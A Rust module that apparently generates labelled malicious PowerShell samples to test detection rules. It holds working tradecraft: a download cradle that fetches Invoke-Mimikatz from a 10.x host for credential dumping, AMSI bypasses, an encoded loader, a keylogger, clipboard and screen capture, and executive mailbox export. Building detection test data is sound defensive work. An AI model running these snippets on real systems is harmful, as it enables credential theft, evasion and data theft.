//! Malicious PowerShell with ground truth: hand-written attack families, and scripts
//! synthesised from rule queries so that every rule of a pack has true positives.
//!
//! Hand-written families follow real tradecraft: discovery through Win32 APIs in the
//! PSReflect and `Add-Type` P/Invoke styles (the seed rule's 24 API names, older versions'
//! subsets), Mimikatz, AMSI bypasses, encoded and compressed payloads, keylogging, clipboard
//! and screen capture, mailbox export. [`synthesise`] reads a rule version's KQL and writes a
//! script holding what one of its branches needs; the generator keeps it only if the reference
//! evaluator says the finished event matches that version, so a synthesised true positive is
//! a proven one.

use super::fleet::Rng;
use super::scripts::SEED_APIS;
use crate::cond::glob::WildToken;
use crate::cond::{Cond, FieldSel, Test};
use crate::ingest::schema::SCRIPT_TEXT;

/// One malicious script and what it is.
#[derive(Debug, Clone)]
pub struct Attack {
    pub family: &'static str,
    pub text: String,
    pub path: String,
}

/// The hand-written families, by name.
pub const FAMILIES: &[&str] = &[
    "psreflect-discovery",
    "pinvoke-discovery",
    "mimikatz",
    "amsi-bypass",
    "encoded-payload",
    "keylogger",
    "clipboard-capture",
    "screen-capture",
    "mailbox-export",
    "split-discovery",
];

pub fn attack(family: &str, rng: &mut Rng) -> Attack {
    let text = match family {
        "psreflect-discovery" => psreflect(rng),
        "pinvoke-discovery" => pinvoke(rng),
        "mimikatz" => mimikatz(rng),
        "amsi-bypass" => amsi(rng),
        "encoded-payload" => encoded(rng),
        "keylogger" => keylogger(rng),
        "clipboard-capture" => clipboard(rng),
        "screen-capture" => screen(rng),
        "split-discovery" => split_discovery(rng),
        _ => mailbox_export(rng),
    };
    let family = FAMILIES
        .iter()
        .find(|f| **f == family)
        .copied()
        .unwrap_or("mailbox-export");
    let path = if rng.chance(0.5) {
        String::new()
    } else {
        format!(
            "C:\\Users\\Public\\Downloads\\{}.ps1",
            rng.pick(&["update", "svc", "a", "tmp1"])
        )
    };
    Attack { family, text, path }
}

/// A few of the API names: the old ones more often (they exist in every version).
fn apis(rng: &mut Rng) -> Vec<&'static str> {
    let count = 1 + rng.below(4) as usize;
    let pool = if rng.chance(0.4) { SEED_APIS.len() } else { 11 };
    (0..count)
        .map(|_| SEED_APIS[rng.below(pool as u64) as usize])
        .collect()
}

fn psreflect(rng: &mut Rng) -> String {
    let names = apis(rng);
    let defs: Vec<String> = names
        .iter()
        .map(|n| format!("    (func netapi32 {n} ([Int]) @([String], [Int], [IntPtr].MakeByRefType(), [Int], [Int32].MakeByRefType(), [Int32].MakeByRefType(), [Int32].MakeByRefType()))"))
        .collect();
    let calls: Vec<String> = names
        .iter()
        .map(|n| format!("$Result = $Netapi32::{n}($ComputerName, 1, [ref]$PtrInfo, -1, [ref]$EntriesRead, [ref]$TotalRead, [ref]$ResumeHandle)"))
        .collect();
    format!(
        "$Mod = New-InMemoryModule -ModuleName Win32{}\r\n$FunctionDefinitions = @(\r\n{}\r\n)\r\n$Types = $FunctionDefinitions | Add-Win32Type -Module $Mod -Namespace 'Win32'\r\n$Netapi32 = $Types['netapi32']\r\n{}\r\n",
        rng.below(1000),
        defs.join(",\r\n"),
        calls.join("\r\n")
    )
}

fn pinvoke(rng: &mut Rng) -> String {
    let names = apis(rng);
    let decls: Vec<String> = names
        .iter()
        .map(|n| format!("    [DllImport(\"netapi32.dll\", SetLastError = true)] public static extern int {n}(string server, int level, out IntPtr buf, int max, out int read, out int total, ref int resume);"))
        .collect();
    format!(
        "Add-Type -TypeDefinition @\"\r\nusing System;\r\nusing System.Runtime.InteropServices;\r\npublic static class Recon{} {{\r\n{}\r\n}}\r\n\"@\r\n$buf = [IntPtr]::Zero; $r = 0; $t = 0; $h = 0\r\n[Recon{}]::{}($null, 1, [ref]$buf, -1, [ref]$r, [ref]$t, [ref]$h)\r\n",
        rng.below(100),
        decls.join("\r\n"),
        rng.below(100),
        names[0]
    )
}

fn mimikatz(rng: &mut Rng) -> String {
    let cmd = rng.pick(&[
        "sekurlsa::logonpasswords",
        "lsadump::sam",
        "kerberos::list /export",
        "sekurlsa::pth",
    ]);
    format!(
        "IEX (New-Object Net.WebClient).DownloadString('http://10.{}.{}.{}/Invoke-Mimikatz.ps1')\r\nInvoke-Mimikatz -Command '\"privilege::debug\" \"{cmd}\"'\r\n",
        rng.below(255),
        rng.below(255),
        rng.below(255)
    )
}

fn amsi(rng: &mut Rng) -> String {
    match rng.below(3) {
        0 => "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\r\n".into(),
        1 => "$a = [Ref].Assembly.GetTypes() | ? { $_.Name -like '*iUtils' }\r\n$b = $a.GetFields('NonPublic,Static') | ? { $_.Name -like '*Context' }\r\n[IntPtr]$ptr = $b.GetValue($null)\r\n[Int32[]]$buf = @(0)\r\n[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $ptr, 1)\r\n# AmsiScanBuffer patched\r\n".into(),
        _ => "$Win32 = Add-Type -MemberDefinition '[DllImport(\"kernel32\")] public static extern IntPtr GetProcAddress(IntPtr hModule, string procName); [DllImport(\"kernel32\")] public static extern IntPtr LoadLibrary(string name); [DllImport(\"kernel32\")] public static extern bool VirtualProtect(IntPtr lpAddress, UIntPtr dwSize, uint flNewProtect, out uint lpflOldProtect);' -Name 'Win32' -PassThru\r\n$addr = $Win32::GetProcAddress($Win32::LoadLibrary('amsi.dll'), 'AmsiScanBuffer')\r\n".into(),
    }
}

fn encoded(rng: &mut Rng) -> String {
    let blob: String = (0..400 + rng.below(2000))
        .map(|_| {
            let c = rng.below(64) as u8;
            (match c {
                0..=25 => b'A' + c,
                26..=51 => b'a' + c - 26,
                52..=61 => b'0' + c - 52,
                62 => b'+',
                _ => b'/',
            }) as char
        })
        .collect();
    format!(
        "$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('{blob}='))\r\n$d = New-Object IO.Compression.DeflateStream($s, [IO.Compression.CompressionMode]::Decompress)\r\nIEX (New-Object IO.StreamReader($d, [Text.Encoding]::ASCII)).ReadToEnd()\r\n"
    )
}

fn keylogger(rng: &mut Rng) -> String {
    format!(
        "$sig = '[DllImport(\"user32.dll\", CharSet=CharSet.Auto)] public static extern short GetAsyncKeyState(int virtualKeyCode);'\r\n$api = Add-Type -MemberDefinition $sig -Name 'Keys{}' -Namespace API -PassThru\r\nwhile ($true) {{ Start-Sleep -Milliseconds 40; for ($c = 8; $c -le 254; $c++) {{ if ($api::GetAsyncKeyState($c) -eq -32767) {{ [char]$c | Out-File $env:TEMP\\k.log -Append }} }} }}\r\n",
        rng.below(100)
    )
}

fn clipboard(rng: &mut Rng) -> String {
    format!(
        "Add-Type -AssemblyName System.Windows.Forms\r\nwhile ($true) {{ $t = [Windows.Forms.Clipboard]::GetText(); if ($t) {{ $t | Out-File $env:TEMP\\c{}.txt -Append }}; Start-Sleep -Seconds 5 }}\r\n",
        rng.below(100)
    )
}

fn screen(rng: &mut Rng) -> String {
    format!(
        "Add-Type -AssemblyName System.Drawing, System.Windows.Forms\r\n$b = [Windows.Forms.SystemInformation]::VirtualScreen\r\n$bmp = New-Object Drawing.Bitmap $b.Width, $b.Height\r\n$g = [Drawing.Graphics]::FromImage($bmp)\r\n$g.CopyFromScreen($b.Left, $b.Top, 0, 0, $bmp.Size)\r\n$bmp.Save(\"$env:TEMP\\s{}.png\")\r\n",
        rng.below(100)
    )
}

/// Discovery whose only API name straddles the boundary between two 4104 fragments: no
/// fragment holds the whole token, so no rule sees it (a true false negative to measure).
fn split_discovery(rng: &mut Rng) -> String {
    let api = SEED_APIS[rng.below(SEED_APIS.len() as u64) as usize];
    let cut = 3 + rng.below(api.len() as u64 - 6) as usize;
    let mut text = String::from("$d = @'\r\n");
    let filler =
        "VGhpcyBpcyBwYWRkaW5nIHRvIHB1c2ggdGhlIGNhbGwgcGFzdCB0aGUgZnJhZ21lbnQgYm91bmRhcnku\r\n";
    let call = format!("'@\r\n$r = $Netapi32::{api}($h, 1, [ref]$p)\r\n");
    // Pad so that `api` starts `cut` characters before the fragment boundary.
    let api_at = super::FRAGMENT_CHARS - cut;
    let call_prefix = call.find(api).unwrap_or(0);
    while text.len() + filler.len() <= api_at - call_prefix {
        text.push_str(filler);
    }
    while text.len() < api_at - call_prefix {
        text.push('A');
    }
    text.push_str(&call);
    text.push_str(&"# end of stage\r\n".repeat(1 + rng.below(50) as usize));
    text
}

fn mailbox_export(rng: &mut Rng) -> String {
    format!(
        "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\r\nNew-MailboxExportRequest -Mailbox '{}' -FilePath '\\\\{}\\c$\\PerfLogs\\m.pst'\r\n",
        rng.pick(&["ceo", "cfo", "legal", "hr-director"]),
        rng.pick(&["ws-0077", "srv-0003"])
    )
}

/// Script text (and the other fields, a script path say, that the condition asks for)
/// built from the positive `powershell.file.script_block_text` terms of one satisfying branch
/// of `cond`, whatever rule language it came from.
pub fn synthesise(cond: &Cond, rng: &mut Rng) -> (String, Vec<(String, String)>) {
    let mut terms = Vec::new();
    let mut fields = Vec::new();
    collect(cond, rng, &mut terms, &mut fields);
    let mut text = String::from("# staged\r\n");
    for t in &terms {
        text.push_str(&match rng.below(3) {
            0 => format!("$x = {t}\r\n"),
            1 => format!("Invoke-Expression \"{t}\"\r\n"),
            _ => format!("{t}\r\n"),
        });
    }
    (text, fields)
}

/// Walks the condition choosing one branch of every `or` and skipping negations.
fn collect(c: &Cond, rng: &mut Rng, terms: &mut Vec<String>, fields: &mut Vec<(String, String)>) {
    match c {
        Cond::Or(items) => {
            if let Some(choice) = items.get(rng.below(items.len() as u64) as usize) {
                collect(choice, rng, terms, fields);
            }
        }
        Cond::And(items) => items.iter().for_each(|i| collect(i, rng, terms, fields)),
        Cond::Pred(p) => {
            let Some(value) = example(&p.test, rng) else {
                return;
            };
            match &p.field {
                FieldSel::Name(name) if name == SCRIPT_TEXT => terms.push(value),
                FieldSel::Name(name) => fields.push((name.clone(), value)),
                FieldSel::Pattern { written, .. } => fields.push((written.clone(), value)),
                FieldSel::All => terms.push(value),
            }
        }
        _ => {}
    }
}

/// A value the test accepts: its text, or a concrete string its glob accepts.
fn example(test: &Test, rng: &mut Rng) -> Option<String> {
    match test {
        Test::Match { text, .. } => Some(text.clone()),
        Test::Glob { pattern, .. } => Some(instantiate(pattern, rng)),
        _ => None,
    }
}

fn instantiate(pattern: &[WildToken], rng: &mut Rng) -> String {
    let mut s = String::new();
    for t in pattern {
        match t {
            WildToken::Char(c) => s.push(*c),
            WildToken::Any => s.push('x'),
            WildToken::AnyRun => {
                if rng.chance(0.5) {
                    let suffix: &&str = rng.pick(&["Ex", "x", "2"]);
                    s.push_str(suffix);
                }
            }
        }
    }
    s
}
